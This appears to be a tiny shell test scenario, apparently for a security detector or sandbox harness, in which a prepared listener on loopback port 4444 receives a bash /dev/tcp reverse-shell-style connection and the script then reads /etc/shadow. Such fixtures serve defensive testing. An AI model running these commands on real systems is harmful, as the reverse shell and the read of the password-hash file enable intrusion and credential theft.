# A shell hangs on a connection to a listener on loopback and asks about the host.
prepare() { listener 4444; }
act() {
    bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444; sh -c id <&3 >&3'
    cat /etc/shadow
}
